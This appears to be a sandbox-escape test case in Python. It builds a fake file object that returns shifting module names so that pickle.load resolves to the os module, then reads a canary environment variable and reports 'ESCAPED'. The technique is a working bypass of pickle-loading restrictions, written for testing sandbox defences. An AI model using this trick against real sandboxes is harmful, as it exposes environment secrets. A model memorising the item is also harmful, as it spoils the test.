"""No app loads a module by a pickle whose names are others each time that they are asked for."""

CLASS = "pickle"
BOUNDARY = "language"
NEEDS = ("pickle", "uuid")


import pickle
import uuid


class Name(str):
    def __format__(self, how):
        return "UUID"

    def split(self, at):
        return ["os", "environ"]


class Line(bytes):
    def decode(self, *how):
        return Name("os")

    def __getitem__(self, at):
        return self if isinstance(at, slice) else 10


class File:
    lines = [b"uuid\n", Line(b"os\n")]

    def read(self, size):
        return {0: b"\x80", 1: b"\x00", 2: b"c", 3: b"."}[self.turn()]

    def turn(self, turns=iter(range(9))):
        return next(turns)

    def readline(self):
        return self.lines.pop(0)


def attack():
    found = pickle.load(File())
    return "ESCAPED: " + found.environ["VAAS_CANARY"] if uuid else ""
